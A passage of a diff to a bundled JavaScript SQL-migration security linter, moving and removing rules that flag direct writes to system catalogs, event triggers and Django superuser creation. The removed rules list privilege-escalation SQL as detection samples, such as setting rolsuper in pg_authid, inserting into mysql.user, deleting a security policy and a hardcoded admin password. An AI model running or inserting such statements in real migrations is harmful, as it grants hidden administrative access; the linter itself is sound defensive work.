-        return ` inside pg_cron job ${stmt.nested.name ?? '?'} (runs on its schedule)`;
     return ` inside function ${stmt.nested.name ?? '?'} (runs whenever it is called)`;
 }
 /** MySQL account `'bob'@'%'` from node-sql-parser's `{name:{value}, host:{value}}`. */
@@ -46395,257 +44312,6 @@ const alter_column_type_rule = {
 };
 /* harmony default export */ const alter_column_type = (alter_column_type_rule);
 
-;// CONCATENATED MODULE: ./src/dynamic.ts
-// Partly-known dynamic SQL (PL/pgSQL `EXECUTE 'ALTER TABLE t OWNER TO ' || r`): rebuild the text with
-// variable names in place of the unknown parts, so a rule can say what it most likely does.
-
-
-
-/**
- * The SQL a partly-known dynamic EXECUTE builds, with each unknown part replaced by the variable's
- * name (or `dyn_N`): `'ALTER TABLE t OWNER TO ' || r` → `ALTER TABLE t OWNER TO r`. Handles `||`,
- * quote_ident/quote_literal/quote_nullable and format('%I %L %s', …). Undefined if not understood.
- */
-function dynamicTemplate(query) {
-    let tree;
-    try {
-        tree = parseSync(`SELECT ${query}`);
-    }
-    catch {
-        return undefined;
-    }
-    const targets = tree?.stmts?.[0]?.stmt?.SelectStmt?.targetList;
-    if (targets?.length !== 1)
-        return undefined;
-    let n = 0;
-    const unknown = (node) => {
-        const f = node?.ColumnRef?.fields;
-        const name = f?.[f.length - 1]?.String?.sval;
-        return typeof name === 'string' && /^[a-z_][a-z0-9_]*$/.test(name) ? name : `dyn_${++n}`;
-    };
-    const flat = (node) => {
-        const c = node?.A_Const;
-        if (c)
-            return c.sval ? (c.sval.sval ?? '') : c.ival ? String(c.ival.ival ?? 0) : c.fval ? String(c.fval.fval) : '';
-        if (node?.TypeCast)
-            return flat(node.TypeCast.arg);
-        const e = node?.A_Expr;
-        if (e?.kind === 'AEXPR_OP' && e.name?.[0]?.String?.sval === '||')
-            return flat(e.lexpr) + flat(e.rexpr);
-        const fc = node?.FuncCall;
-        if (fc) {
-            const fn = fc.funcname?.[fc.funcname.length - 1]?.String?.sval;
-            const args = fc.args ?? [];
-            if (fn === 'quote_ident' && args.length === 1)
-                return flat(args[0]);
-            if ((fn === 'quote_literal' || fn === 'quote_nullable') && args.length === 1)
-                return `'${flat(args[0])}'`;
-            if (fn === 'format' && args[0]?.A_Const?.sval) {
-                let i = 1;
-                return String(args[0].A_Const.sval.sval ?? '').replace(/%(\d+\$)?([-\d]*)([sIL%])/g, (_m, pos, _w, t) => {
-                    if (t === '%')
-                        return '%';
-                    const a = args[pos ? parseInt(pos, 10) : i++];
-                    const v = a ? flat(a) : `dyn_${++n}`;
-                    return t === 'L' ? `'${v}'` : v;
-                });
-            }
-        }
-        return unknown(node);
-    };
-    return flat(targets[0]?.ResTarget?.val);
-}
-/** The rebuilt SQL of a dynamic pseudo-statement and its parse, computed once for all rules. */
-const rebuiltCache = new WeakMap();
-function rebuilt(d) {
-    let r = rebuiltCache.get(d);
-    if (!r) {
-        const tpl = dynamicTemplate(String(d.query));
-        let stmts;
-        if (tpl !== undefined) {
-            try {
-                stmts = parseSync(tpl).stmts ?? [];
-            }
-            catch {
-                stmts = undefined;
-            }
-        }
-        r = { tpl, stmts };
-        rebuiltCache.set(d, r);
-    }
-    return r;
-}
-/**
- * Wrap a rule so that it also looks into dynamic SQL whose text is only partly known
- * (`EXECUTE 'ALTER TABLE t OWNER TO ' || r`). The dynamic-sql rule reports that such SQL cannot be
- * checked; this says what it most likely does: the rule's own check runs on the SQL rebuilt with
- * variable names in place of the unknown parts, else its `unparsed` hook, else its `lexical` patterns.
- */
-function withDynamic(rule) {
-    const check = rule.check;
-    return {
-        ...rule,
-        check(stmt, ctx) {
-            check?.(stmt, ctx);
-            const d = stmt.pg?.PLpgSQL_dynamic;
-            if (!d || d.literal !== undefined)
-                return;
-            const where = ` (built by dynamic SQL${inside(stmt)}; unknown parts shown by variable name)`;
-            let reported = false;
-            const report = (r) => {
-                reported = true;
-                let m = r.message.replace(UNPARSED, '').replace(/^Likely: /, '');
-                if (stmt.nested)
-                    m = m.replace(inside(stmt), '');
-                m = m.replace(/\.$/, '');
-                ctx.report({ ...r, offset: undefined, message: `Likely: ${m}${where}.`, key: `dynamic:${r.key ?? ''}` });
-            };
-            const { tpl, stmts } = rebuilt(d);
-            const parsedTemplate = !!stmts?.length;
-            if (tpl !== undefined) {
-                const base = { ...stmt, text: tpl, lexical: lexicalForm(tpl), pgText: undefined, pgOffset: undefined };
-                if (stmts)
-                    for (const s of stmts)
-                        check?.({ ...base, pg: s.stmt }, { report });
-                else
-                    rule.unparsed?.({ ...base, pg: undefined, parsed: false }, { report });
-            }
-            // When the rebuilt SQL parsed, the rule's check had its say; otherwise fall back to the patterns.
-            if (!reported && !parsedTemplate && rule.lexical?.some((re) => re.test(stmt.lexical))) {
-                ctx.report({ message: `Likely: ${rule.meta.summary} (built by dynamic SQL${inside(stmt)}: ${String(d.query).slice(0, 80)}).`, key: 'dynamic' });
-            }
-        },
-    };
-}
-
-;// CONCATENATED MODULE: ./rules/catalog-write.ts
-
-
-/** PostgreSQL catalogs whose rows are roles, memberships, privileges and settings. */
-const PG_AUTH = /^(pg_authid|pg_auth_members|pg_shadow|pg_user|pg_roles|pg_group|pg_default_acl|pg_init_privs|pg_db_role_setting|pg_user_mapping|pg_largeobject_metadata|pg_parameter_acl|pg_settings|pg_hba_file_rules)$/;
-/** MySQL system tables that hold accounts and privileges (`FLUSH PRIVILEGES` makes edits take effect). */
-const MYSQL_AUTH = /^(user|db|tables_priv|columns_priv|procs_priv|proxies_priv|global_grants|role_edges|default_roles|password_history|roles_mapping|global_priv)$/;
-/** What writing to a catalog table means, or undefined when the table is not a catalog. */
-function pgCatalog(schema, rel) {
-    const s = schema?.toLowerCase();
-    const r = rel.toLowerCase();
-    if (s && s !== 'pg_catalog' && s !== 'information_schema')
-        return undefined;
-    if (s === 'information_schema')
-        return 'a system view';
-    if (!s && !r.startsWith('pg_'))
-        return undefined;
-    if (s === 'pg_catalog' || r.startsWith('pg_'))
-        return PG_AUTH.test(r) ? 'roles, passwords and privileges: a direct write grants or changes access without GRANT/ALTER ROLE' : 'a system catalog: a direct write bypasses every check DDL makes';
-    return undefined;
-}
-function mysqlCatalog(db, table) {
-    const d = String(db ?? '').toLowerCase();
-    const t = table.toLowerCase();
-    if (d === 'mysql')
-        return MYSQL_AUTH.test(t) ? 'accounts and privileges: a direct write grants access without GRANT (active after FLUSH PRIVILEGES or a restart)' : 'a MySQL system table';
-    if (d === 'performance_schema' && /^setup_/.test(t))
-        return 'performance schema instrumentation (what is monitored and audited)';
-    if (d === 'sys' || d === 'information_schema')
-        return 'a system schema';
-    if (!d && /^(sqlite_master|sqlite_schema|sqlite_temp_master)$/.test(t))
-        return 'the SQLite schema table: a direct write (with PRAGMA writable_schema) rewrites table and trigger definitions unchecked';
-    return undefined;
-}
-const VERB = { UpdateStmt: 'Updates', InsertStmt: 'Inserts into', DeleteStmt: 'Deletes from', MergeStmt: 'Merges into' };
-function pgCheck(stmt, report) {
-    if (!stmt.pg)
-        return;
-    ast_walk(stmt.pg, (k, v) => {
-        const rel = VERB[k] ? v?.relation : undefined;
-        if (!rel)
-            return;
-        const name = rangeVarName(rel);
-        const what = pgCatalog(rel.schemaname, String(rel.relname ?? ''));
-        if (!what || createdEarlier(stmt, name))
-            return;
-        report({ message: `${VERB[k]} ${name}, ${what}${inside(stmt)}.`, offset: nodeOffset(stmt, rel.location), key: name });
-    });
-}
-function nspCheck(stmt, report) {
-    const ast = stmt.ast;
-    const type = String(ast?.type ?? '').toLowerCase();
-    if (!ast || !['update', 'insert', 'replace', 'delete'].includes(type))
-        return;
-    const tables = [...(ast.table ?? []), ...(type === 'delete' ? (ast.from ?? []) : [])];
-    const seen = new Set();
-    for (const t of tables) {
-        const table = typeof t?.table === 'string' ? t.table : undefined;
-        if (!table)
-            continue;
-        const what = mysqlCatalog(t.db, table);
-        const name = [t.db, table].filter(Boolean).join('.');
-        if (!what || seen.has(name))
-            continue;
-        seen.add(name);
-        const verb = type === 'update' ? 'Updates' : type === 'delete' ? 'Deletes from' : type === 'replace' ? 'Replaces into' : 'Inserts into';
-        report({ message: `${verb} ${name}, ${what}.`, key: name });
-    }
-}
-function textCheck(stmt, report, suffix) {
-    const t = folded(stmt);
-    if (/^flush\s+(local\s+|no_write_to_binlog\s+)?privileges\b/i.test(t)) {
-        report({ message: 'FLUSH PRIVILEGES reloads the grant tables: direct edits of mysql.user/mysql.db take effect (look for writes to them).', severity: 'warning', key: 'flush' });
-        return;
-    }
-    if (/^pragma\s+(\w+\.)?writable_schema\s*(=\s*|\()\s*['"]?(1|on|true|yes|reset)\b/i.test(t)) {
-        report({ message: `PRAGMA writable_schema lets the statements that follow rewrite sqlite_master directly (table and trigger definitions, unchecked)${suffix}.`, key: 'writable_schema' });
-        return;
-    }
-    const m = /^(update|insert\s+into|delete\s+from|replace\s+into)\s+(?:only\s+)?([`"\w]+)\s*\.\s*([`"\w]+)/i.exec(t) ?? /^(update|insert\s+into|delete\s+from)\s+(?:only\s+)?()(pg_\w+)/i.exec(t);
-    if (!m)
-        return;
-    const [db, table] = [m[2].replace(/[`"]/g, ''), m[3].replace(/[`"]/g, '')];
-    const what = pgCatalog(db || undefined, table) ?? mysqlCatalog(db || undefined, table);
-    if (what)
-        report({ message: `Likely: ${m[1].toLowerCase()} ${db ? db + '.' : ''}${table}, ${what}${suffix}.`, key: `${db}.${table}` });
-}
-const catalog_write_rule = {
-    meta: {
-        id: 'catalog-write',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'Writes to system catalogs: UPDATE/INSERT/DELETE on pg_authid, pg_catalog.*, mysql.user/mysql.db, sqlite_master (privilege escalation without GRANT)',
-        rationale: 'A superuser migration can give a role SUPERUSER with `UPDATE pg_authid SET rolsuper = true`, change function or table definitions in ' +
-            'pg_proc/pg_class, or add an account with `INSERT INTO mysql.user` + FLUSH PRIVILEGES: none of it uses GRANT or ALTER ROLE, so the ' +
-            'privilege rules never see it, and catalog edits bypass every check the DDL commands make. MySQL performance_schema.setup_* switches ' +
-            'instrumentation off; SQLite PRAGMA writable_schema lets sqlite_master be rewritten.',
-        fix: 'Use the DDL or GRANT/ALTER ROLE/CREATE USER command that does what you need (reviewed by the privilege rules) instead of editing catalogs.',
-        examples: {
-            bad: [
-                { sql: "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app';" },
-                { sql: "UPDATE pg_catalog.pg_proc SET prosecdef = true WHERE proname = 'f';" },
-                { sql: "DO $$ BEGIN DELETE FROM pg_catalog.pg_policy WHERE polname = 'tenant_isolation'; END $$;" },
-                { sql: "INSERT INTO mysql.user (Host, User, Super_priv) VALUES ('%', 'x', 'Y');\nFLUSH PRIVILEGES;", dialect: 'mysql' },
-                { sql: "UPDATE mysql.db SET Select_priv = 'Y' WHERE User = 'app';", dialect: 'mariadb' },
-                { sql: "PRAGMA writable_schema = 1;\nUPDATE sqlite_master SET sql = 'CREATE TABLE t(a)' WHERE name = 't';", dialect: 'sqlite' },
-            ],
-            good: [
-                { sql: 'SELECT rolname FROM pg_authid;' },
-                { sql: "UPDATE users SET is_admin = true WHERE id = 1;" },
-                { sql: "UPDATE app.user SET name = 'x' WHERE id = 1;", dialect: 'mysql' },
-                { sql: 'CREATE TABLE pg_stats_cache (id int);\nINSERT INTO pg_stats_cache VALUES (1);' },
-            ],
-        },
-    },
-    check(stmt, { report }) {
-        pgCheck(stmt, report);
-        nspCheck(stmt, report);
-        if (stmt.ast && /^pragma\s/.test(stmt.lexical))
-            textCheck(stmt, report, '');
-    },
-    unparsed(stmt, { report }) {
-        textCheck(stmt, report, UNPARSED);
-    },
-    lexical: [/^(update|insert\s+into|delete\s+from)\s+(only\s+)?(pg_catalog\s*\.|pg_authid\b|pg_auth_members\b|mysql\s*\.|`mysql`\s*\.)/, /^flush\s+privileges\b/, /^pragma\s+writable_schema\b/],
-};
-/* harmony default export */ const catalog_write = (withDynamic(catalog_write_rule));
-
 ;// CONCATENATED MODULE: ./rules/config-credential.ts
 
 function message(e) {
@@ -46854,6 +44520,129 @@ const constraint_not_valid_rule = {
     },
 };
 /* harmony default export */ const constraint_not_valid = (constraint_not_valid_rule);
+
+;// CONCATENATED MODULE: ./src/dynamic.ts
+// Partly-known dynamic SQL (PL/pgSQL `EXECUTE 'ALTER TABLE t OWNER TO ' || r`): rebuild the text with
+// variable names in place of the unknown parts, so a rule can say what it most likely does.
+
+
+
+/**
+ * The SQL a partly-known dynamic EXECUTE builds, with each unknown part replaced by the variable's
+ * name (or `dyn_N`): `'ALTER TABLE t OWNER TO ' || r` → `ALTER TABLE t OWNER TO r`. Handles `||`,
+ * quote_ident/quote_literal/quote_nullable and format('%I %L %s', …). Undefined if not understood.
+ */
+function dynamicTemplate(query) {
+    let tree;
+    try {
+        tree = parseSync(`SELECT ${query}`);
+    }
+    catch {
+        return undefined;
+    }
+    const targets = tree?.stmts?.[0]?.stmt?.SelectStmt?.targetList;
+    if (targets?.length !== 1)
+        return undefined;
+    let n = 0;
+    const unknown = (node) => {
+        const f = node?.ColumnRef?.fields;
+        const name = f?.[f.length - 1]?.String?.sval;
+        return typeof name === 'string' && /^[a-z_][a-z0-9_]*$/.test(name) ? name : `dyn_${++n}`;
+    };
+    const flat = (node) => {
+        const c = node?.A_Const;
+        if (c)
+            return c.sval ? (c.sval.sval ?? '') : c.ival ? String(c.ival.ival ?? 0) : c.fval ? String(c.fval.fval) : '';
+        if (node?.TypeCast)
+            return flat(node.TypeCast.arg);
+        const e = node?.A_Expr;
+        if (e?.kind === 'AEXPR_OP' && e.name?.[0]?.String?.sval === '||')
+            return flat(e.lexpr) + flat(e.rexpr);
+        const fc = node?.FuncCall;
+        if (fc) {
+            const fn = fc.funcname?.[fc.funcname.length - 1]?.String?.sval;
+            const args = fc.args ?? [];
+            if (fn === 'quote_ident' && args.length === 1)
+                return flat(args[0]);
+            if ((fn === 'quote_literal' || fn === 'quote_nullable') && args.length === 1)
+                return `'${flat(args[0])}'`;
+            if (fn === 'format' && args[0]?.A_Const?.sval) {
+                let i = 1;
+                return String(args[0].A_Const.sval.sval ?? '').replace(/%(\d+\$)?([-\d]*)([sIL%])/g, (_m, pos, _w, t) => {
+                    if (t === '%')
+                        return '%';
+                    const a = args[pos ? parseInt(pos, 10) : i++];
+                    const v = a ? flat(a) : `dyn_${++n}`;
+                    return t === 'L' ? `'${v}'` : v;
+                });
+            }
+        }
+        return unknown(node);
+    };
+    return flat(targets[0]?.ResTarget?.val);
+}
+/** The rebuilt SQL of a dynamic pseudo-statement and its parse, computed once for all rules. */
+const rebuiltCache = new WeakMap();
+function rebuilt(d) {
+    let r = rebuiltCache.get(d);
+    if (!r) {
+        const tpl = dynamicTemplate(String(d.query));
+        let stmts;
+        if (tpl !== undefined) {
+            try {
+                stmts = parseSync(tpl).stmts ?? [];
+            }
+            catch {
+                stmts = undefined;
+            }
+        }
+        r = { tpl, stmts };
+        rebuiltCache.set(d, r);
+    }
+    return r;
+}
+/**
+ * Wrap a rule so that it also looks into dynamic SQL whose text is only partly known
+ * (`EXECUTE 'ALTER TABLE t OWNER TO ' || r`). The dynamic-sql rule reports that such SQL cannot be
+ * checked; this says what it most likely does: the rule's own check runs on the SQL rebuilt with
+ * variable names in place of the unknown parts, else its `unparsed` hook, else its `lexical` patterns.
+ */
+function withDynamic(rule) {
+    const check = rule.check;
+    return {
+        ...rule,
+        check(stmt, ctx) {
+            check?.(stmt, ctx);
+            const d = stmt.pg?.PLpgSQL_dynamic;
+            if (!d || d.literal !== undefined)
+                return;
+            const where = ` (built by dynamic SQL${inside(stmt)}; unknown parts shown by variable name)`;
+            let reported = false;
+            const report = (r) => {
+                reported = true;
+                let m = r.message.replace(UNPARSED, '').replace(/^Likely: /, '');
+                if (stmt.nested)
+                    m = m.replace(inside(stmt), '');
+                m = m.replace(/\.$/, '');
+                ctx.report({ ...r, offset: undefined, message: `Likely: ${m}${where}.`, key: `dynamic:${r.key ?? ''}` });
+            };
+            const { tpl, stmts } = rebuilt(d);
+            const parsedTemplate = !!stmts?.length;
+            if (tpl !== undefined) {
+                const base = { ...stmt, text: tpl, lexical: lexicalForm(tpl), pgText: undefined, pgOffset: undefined };
+                if (stmts)
+                    for (const s of stmts)
+                        check?.({ ...base, pg: s.stmt }, { report });
+                else
+                    rule.unparsed?.({ ...base, pg: undefined, parsed: false }, { report });
+            }
+            // When the rebuilt SQL parsed, the rule's check had its say; otherwise fall back to the patterns.
+            if (!reported && !parsedTemplate && rule.lexical?.some((re) => re.test(stmt.lexical))) {
+                ctx.report({ message: `Likely: ${rule.meta.summary} (built by dynamic SQL${inside(stmt)}: ${String(d.query).slice(0, 80)}).`, key: 'dynamic' });
+            }
+        },
+    };
+}
 
 ;// CONCATENATED MODULE: ./rules/copy-program.ts
 
@@ -47072,10 +44861,10 @@ const untrusted_language_rule = {
         if (l)
             report({ message: `LOAD '${l.filename}' loads a shared library into the database server process${inside(stmt)}.` });
         if (stmt.ast && /^(create\s+(aggregate\s+)?function\b[^;]*\bsoname\b|install\s+(plugin|component|soname)\b)/.test(stmt.lexical))
-            untrusted_language_textCheck(stmt, report);
+            textCheck(stmt, report);
     },
     unparsed(stmt, { report }) {
-        untrusted_language_textCheck(stmt, report, UNPARSED);
+        textCheck(stmt, report, UNPARSED);
     },
     lexical: [
         /\blanguage\s+['"]?(plpython[23]?u|plperlu|pltclu|plsh|plr|javau|c|internal)\b/,
@@ -47087,7 +44876,7 @@ const untrusted_language_rule = {
     ],
 };
 /** MySQL/MariaDB native code, from the text (node-sql-parser does not accept these statements). */
-function untrusted_language_textCheck(stmt, report, suffix = '') {
+function textCheck(stmt, report, suffix = '') {
     const t = folded(stmt);
     let m = /\bcreate\s+(?:aggregate\s+)?function\s+(?:if\s+not\s+exists\s+)?(\S+)\s+returns\s+\w+\s+soname\s+(\S+)/i.exec(t);
     if (m)
@@ -47206,54 +44995,7 @@ const dangerous_extension_rule = {
 };
 /* harmony default export */ const dangerous_extension = (withDynamic(dangerous_extension_rule));
 
-;// CONCATENATED MODULE: ./src/roles.ts
-// Roles worth naming in privilege findings: PostgreSQL's predefined roles and managed services'
-// administrator roles.
-/**
- * PostgreSQL predefined roles (and well-known administrative roles of managed services) that
- * give more than ordinary table access. `high` marks roles that reach outside the database's
- * permission system (files, programs, every table, other sessions) or amount to administration.
- */
-const NOTABLE_ROLES = {
-    pg_read_server_files: { what: 'can read any file the database server can (COPY FROM file, pg_read_file)', high: true },
-    pg_write_server_files: { what: 'can write any file the database server can (COPY TO file)', high: true },
-    pg_execute_server_program: { what: 'can run programs on the database server as its OS user (COPY … PROGRAM)', high: true },
-    pg_read_all_data: { what: 'can read every table, view and sequence', high: true },
-    pg_write_all_data: { what: 'can write every table, view and sequence', high: true },
-    pg_signal_backend: { what: 'can cancel queries and terminate other sessions', high: true },
-    pg_create_subscription: { what: 'can create logical replication subscriptions (outbound connections)', high: true },
-    pg_maintain: { what: 'can VACUUM, ANALYZE, CLUSTER, REFRESH, REINDEX and LOCK every relation', high: false },
-    pg_checkpoint: { what: 'can run CHECKPOINT', high: false },
-    pg_monitor: { what: 'can read monitoring views, including other sessions’ query text', high: false },
-    pg_read_all_settings: { what: 'can read every configuration setting', high: false },
-    pg_read_all_stats: { what: 'can read all statistics views, including other sessions’ query text', high: false },
-    pg_stat_scan_tables: { what: 'can run monitoring functions that take locks', high: false },
-    pg_use_reserved_connections: { what: 'can use connection slots reserved for administrators', high: false },
-    pg_database_owner: { what: 'owner of the current database', high: true },
-    postgres: { what: 'usually the superuser', high: true },
-    rds_superuser: { what: 'Amazon RDS administrator role', high: true },
-    rds_replication: { what: 'can manage logical replication (Amazon RDS)', high: true },
-    cloudsqlsuperuser: { what: 'Cloud SQL administrator role', high: true },
-    azure_pg_admin: { what: 'Azure administrator role', high: true },
-    supabase_admin: { what: 'Supabase administrator role', high: true },
-};
-/** ' (can read any file …)' for notable roles, '' otherwise. */
-function roleNote(name) {
-    const n = NOTABLE_ROLES[name.toLowerCase()];
-    return n ? { text: ` (${n.what})`, high: n.high } : { text: '', high: false };
-}
-/**
- * REVOKE cannot open a hole (PostgreSQL and MySQL have no deny rules) but can cut a service off its
- * data in production: it gates like a GRANT, at a lower risk level, except when it only runs on
- * rollback (a down migration revoking what its up migration granted).
- */
-const REVOKE_NOTE = ' (lower risk: it only narrows access, but can cut a service or role off data it still needs)';
-function revokeSeverity(stmt) {
-    return stmt.unit.down ? 'warning' : 'error';
-}
-
 ;// CONCATENATED MODULE: ./rules/default-privileges.ts
-
 
 
 const KINDS = {
@@ -47274,7 +45016,7 @@ const default_privileges_rule = {
         summary: 'Changes default privileges (ALTER DEFAULT PRIVILEGES): grants that apply to every object created later',
         rationale: 'ALTER DEFAULT PRIVILEGES grants (or revokes) privileges on objects that do not exist yet: every table, sequence or function ' +
             'created later in that schema (by that role) is automatically accessible to the grantee, without any GRANT in later migrations ' +
-            'to review. To PUBLIC or with ALL it is high risk. Revoking defaults only narrows future access, but can cut a service off tables created later: it gates like a grant (lower risk level), except in down migrations.',
+            'to review. To PUBLIC or with ALL it is high risk. Revoking defaults only narrows future access and is a warning.',
         fix: 'Prefer explicit GRANTs on the objects a role needs; if defaults are needed, keep them to a specific role and the narrowest privileges, and get them approved.',
         examples: {
             bad: [
@@ -47306,7 +45048,7 @@ const default_privileges_rule = {
         const kind = KINDS[act.objtype] ?? 'objects';
         const scope = `${kind} created later${roles ? ` by ${roles}` : ''}${schemas ? ` in schema ${schemas}` : ''}`;
         if (!act.is_grant) {
-            report({ message: `Revokes ${privs} by default on ${scope} from ${grantees.join(', ')}${inside(stmt)}${REVOKE_NOTE.replace('access', 'future access')}.`, severity: revokeSeverity(stmt) });
+            report({ message: `Revokes ${privs} by default on ${scope} from ${grantees.join(', ')}${inside(stmt)} (reduces future access).`, severity: 'warning' });
             return;
         }
         const risks = [];
@@ -47321,7 +45063,7 @@ const default_privileges_rule = {
     unparsed(stmt, { report }) {
         const m = /\balter\s+default\s+privileges\b(.*?)\b(grant|revoke)\s+(.+?)\s+on\s+(\w+)\s+(?:to|from)\s+(.+?);?$/i.exec(folded(stmt));
         if (m)
-            report({ message: `Likely: ${m[2].toLowerCase() === 'grant' ? 'Grants' : 'Revokes'} ${m[3]} by default on ${m[4]} created later${m[1].trim() ? ` (${m[1].trim()})` : ''} ${m[2].toLowerCase() === 'grant' ? 'to' : 'from'} ${m[5]}${UNPARSED}.`, severity: m[2].toLowerCase() === 'grant' ? 'error' : revokeSeverity(stmt) });
+            report({ message: `Likely: ${m[2].toLowerCase() === 'grant' ? 'Grants' : 'Revokes'} ${m[3]} by default on ${m[4]} created later${m[1].trim() ? ` (${m[1].trim()})` : ''} ${m[2].toLowerCase() === 'grant' ? 'to' : 'from'} ${m[5]}${UNPARSED}.`, severity: m[2].toLowerCase() === 'grant' ? 'error' : 'warning' });
     },
     lexical: [/\balter\s+default\s+privileges\b/],
 };
@@ -47439,43 +45181,6 @@ const django_run_python_rule = {
     },
 };
 /* harmony default export */ const django_run_python = (django_run_python_rule);
-
-;// CONCATENATED MODULE: ./rules/django-superuser.ts
-
-const DJ = 'app/migrations/0002_admin.py';
-const HEAD = 'from django.db import migrations\n\n';
-const TAIL = '\n\nclass Migration(migrations.Migration):\n    dependencies = [("app", "0001_initial")]\n    operations = [migrations.RunPython(forwards, migrations.RunPython.noop)]\n';
-const django_superuser_rule = {
-    meta: {
-        id: 'django-superuser',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'Python migration creates or promotes administrator accounts: create_superuser(), is_superuser=True, is_staff=True (hardcoded passwords redacted and reported)',
-        rationale: 'A data migration that calls `User.objects.create_superuser(…)`, sets `is_superuser`/`is_staff` or updates accounts with them gives someone ' +
-            'full administrative access to the application in every environment it is deployed to, without any grant the database rules would see. ' +
-            'With a password in the code, everyone who can read the repository can log in as that administrator: the literal is treated as a secret ' +
-            '(never shown) and the credential rules report it.',
-        fix: 'Create administrators with `manage.py createsuperuser` or an operator runbook, with credentials from a secret store; remove promotions from migrations.',
-        examples: {
-            bad: [
-                { path: DJ, sql: HEAD + 'def forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    User.objects.create_superuser("admin", "admin@example.com", "S3cr3t-pass!")\n' + TAIL },
-                { path: DJ, sql: HEAD + 'def forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    User.objects.filter(email="me@example.com").update(is_superuser=True, is_staff=True)\n' + TAIL },
-                { path: DJ, sql: HEAD + 'def forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    u = User.objects.get(username="me")\n    u.is_superuser = True\n    u.save()\n' + TAIL },
-                { path: DJ, sql: HEAD + 'def forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    User.objects.get_or_create(username="ops", defaults={"is_staff": True})\n' + TAIL },
-            ],
-            good: [
-                { path: DJ, sql: HEAD + 'def forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    User.objects.filter(is_superuser=False).update(is_active=True)\n' + TAIL },
-                { path: DJ, sql: HEAD + 'def forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    User.objects.filter(last_login=None).update(is_staff=False)\n' + TAIL },
-            ],
-        },
-    },
-    checkFile(file, { report }) {
-        for (const h of pythonFacts(file.facts)?.accounts ?? []) {
-            report({ message: h.message, line: h.line, column: h.column, endLine: h.endLine, severity: h.severity, key: h.key, secrets: h.secrets, down: h.down });
-        }
-    },
-};
-/* harmony default export */ const django_superuser = (django_superuser_rule);
 
 ;// CONCATENATED MODULE: ./rules/drop-cascade.ts
 
@@ -48211,46 +45916,6 @@ const dynamic_sql_rule = {
 };
 /* harmony default export */ const dynamic_sql = (dynamic_sql_rule);
 
-;// CONCATENATED MODULE: ./rules/event-trigger.ts
-
-
-const event_trigger_rule = {
-    meta: {
-        id: 'event-trigger',
-        category: 'execution',
-        severity: 'error',
-        summary: 'Creates or enables an event trigger: a function that runs on every DDL command (or login) of every user',
-        rationale: 'An event trigger (superuser only) runs its function on ddl_command_start/end, sql_drop, table_rewrite or login for every role, ' +
-            'including superusers: a SECURITY INVOKER function then runs with the privileges of whoever issues the DDL, a classic path from a ' +
-            'trigger owner to superuser, and it can veto or silently alter later migrations.',
-        fix: 'Install event triggers as a reviewed operational step (or through a vetted extension), not from an application migration; get it approved.',
-        examples: {
-            bad: [
-                { sql: 'CREATE EVENT TRIGGER grab ON ddl_command_start EXECUTE FUNCTION public.grab();' },
-                { sql: 'ALTER EVENT TRIGGER grab ENABLE ALWAYS;' },
-                { sql: "DO $$ BEGIN EXECUTE 'CREATE EVENT TRIGGER x ON sql_drop EXECUTE PROCEDURE f()'; END $$;" },
-            ],
-            good: [{ sql: 'CREATE TRIGGER t BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f();' }, { sql: 'ALTER EVENT TRIGGER grab DISABLE;' }, { sql: 'DROP EVENT TRIGGER IF EXISTS grab;' }],
-        },
-    },
-    check(stmt, { report }) {
-        const c = pgNode(stmt, 'CreateEventTrigStmt');
-        if (c) {
-            const tags = (c.whenclause ?? []).flatMap((w) => (w?.DefElem?.arg?.List?.items ?? []).map((i) => i?.String?.sval)).filter(Boolean);
-            report({
-                message: `Creates event trigger ${c.trigname} on ${c.eventname}${tags.length ? ` (${tags.join(', ')})` : ''}: ${names(c.funcname)}() runs on that event for every user, superusers included${inside(stmt)}.`,
-            });
-        }
-        const a = pgNode(stmt, 'AlterEventTrigStmt');
-        if (a && a.tgenabled && a.tgenabled !== 'D') {
-            const mode = a.tgenabled === 'A' ? 'ALWAYS' : a.tgenabled === 'R' ? 'REPLICA' : '';
-            report({ message: `Enables event trigger ${a.trigname}${mode ? ` ${mode}` : ''}: its function runs on every matching event for every user${inside(stmt)}.` });
-        }
-    },
-    lexical: [/\bcreate\s+event\s+trigger\b/, /\balter\s+event\s+trigger\s+\S+\s+enable\b/],
-};
-/* harmony default export */ const event_trigger = (withDynamic(event_trigger_rule));
-
 ;// CONCATENATED MODULE: ./src/diff.ts
 // Unified diffs (GitHub's `patch` field of a pull request file): which RIGHT-side lines a review
 // comment can be placed on, and where a change starts.
@@ -48343,6 +46008,43 @@ const gate_config_changed_rule = {
 };
 /* harmony default export */ const gate_config_changed = (gate_config_changed_rule);
 
+;// CONCATENATED MODULE: ./src/roles.ts
+// Roles worth naming in privilege findings: PostgreSQL's predefined roles and managed services'
+// administrator roles.
+/**
+ * PostgreSQL predefined roles (and well-known administrative roles of managed services) that
+ * give more than ordinary table access. `high` marks roles that reach outside the database's
+ * permission system (files, programs, every table, other sessions) or amount to administration.
+ */
+const NOTABLE_ROLES = {
+    pg_read_server_files: { what: 'can read any file the database server can (COPY FROM file, pg_read_file)', high: true },
+    pg_write_server_files: { what: 'can write any file the database server can (COPY TO file)', high: true },
+    pg_execute_server_program: { what: 'can run programs on the database server as its OS user (COPY … PROGRAM)', high: true },
+    pg_read_all_data: { what: 'can read every table, view and sequence', high: true },
+    pg_write_all_data: { what: 'can write every table, view and sequence', high: true },
+    pg_signal_backend: { what: 'can cancel queries and terminate other sessions', high: true },
+    pg_create_subscription: { what: 'can create logical replication subscriptions (outbound connections)', high: true },
+    pg_maintain: { what: 'can VACUUM, ANALYZE, CLUSTER, REFRESH, REINDEX and LOCK every relation', high: false },
+    pg_checkpoint: { what: 'can run CHECKPOINT', high: false },
+    pg_monitor: { what: 'can read monitoring views, including other sessions’ query text', high: false },
+    pg_read_all_settings: { what: 'can read every configuration setting', high: false },
+    pg_read_all_stats: { what: 'can read all statistics views, including other sessions’ query text', high: false },
+    pg_stat_scan_tables: { what: 'can run monitoring functions that take locks', high: false },
+    pg_use_reserved_connections: { what: 'can use connection slots reserved for administrators', high: false },
